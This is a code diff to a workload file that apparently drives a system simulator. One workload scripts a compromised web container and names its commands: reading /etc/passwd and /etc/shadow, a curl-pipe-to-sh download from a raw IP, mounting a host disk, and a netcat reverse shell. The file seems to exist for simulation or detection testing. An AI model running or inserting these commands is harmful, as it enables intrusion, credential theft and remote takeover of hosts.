@@ -166,7 +166,7 @@ const WORKLOADS: WorkloadDef[] = [
       webClients(k, 160, 60, 0.02);
       k.s.net.addClients({ port: 8443, rate: 20, ips: INTERNET, rttNs: 40e6, loss: 0.05, requests: [1, 1], requestBytes: 60, thinkNs: 1e6, resetRate: 1 });
       loop(k, cg.user, 1000, '/home/alice', 'curl -s https://github.com/ > /dev/null; curl -s http://example.com/ > /dev/null; sleep 0.5');
-      loop(k, cg.user, 1000, '/home/alice', 'curl -s http://search.internal:9200/; curl -s --max-time 2 http://ghost.internal/; sleep 1');
+      loop(k, cg.user, 1000, '/home/alice', 'curl -s http://search.internal:9200/; timeout 1 curl -s http://ghost.internal/; sleep 1');
       loop(k, cg.user, 1000, '/home/alice', 'wget -q https://pypi.org/simple/; sleep 2');
     },
   },
@@ -201,7 +201,7 @@ const WORKLOADS: WorkloadDef[] = [
       // What the compromised web container runs, a few seconds in.
       const attack: [delay: number, uid: number, script: string][] = [
         [3e9, 0, 'id; uname -a; cat /etc/passwd'],
-        [5e9, 0, 'curl -s http://45.33.12.7/x86_64 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x'],
+        [5e9, 0, "sh -c 'curl -s http://45.33.12.7/i.sh | sh'"],
         [7e9, 33, 'cat /etc/shadow'],
         [9e9, 0, 'mount /dev/sda1 /mnt'],
         [11e9, 0, 'nc -e /bin/sh 185.220.101.4 4444'],
